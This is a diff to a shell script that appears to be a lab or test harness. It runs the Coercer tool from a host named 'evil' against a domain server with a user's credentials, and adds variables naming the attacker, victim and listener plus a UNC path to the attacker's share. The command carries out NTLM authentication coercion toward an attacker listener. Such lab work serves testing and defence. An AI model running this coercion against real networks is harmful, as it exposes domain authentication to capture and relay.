@@ -75,3 +75,9 @@ coercer() {
   in_host evil timeout 60 "$COERCER/coercer" coerce --always-continue -u alice -p "$ALICE_PW" -d $DOMAIN \
     -t $SRV -l $EVIL --auth-type smb --filter-transport-name msrpc "$@" > "$RUN/coercer.log" 2>&1 || true
 }
+
+# What most attacks have in common.
+COERCED_HERE=(malicious=yes attacker=$EVIL victim=$SRV listener=$EVIL)
+IMPACKET_CALL='impacket 0.13.1'
+COERCER_CALL='coercer 2.4.3, impacket 0.13.1'
+FILE="\\\\$EVIL\\share\\file.txt"
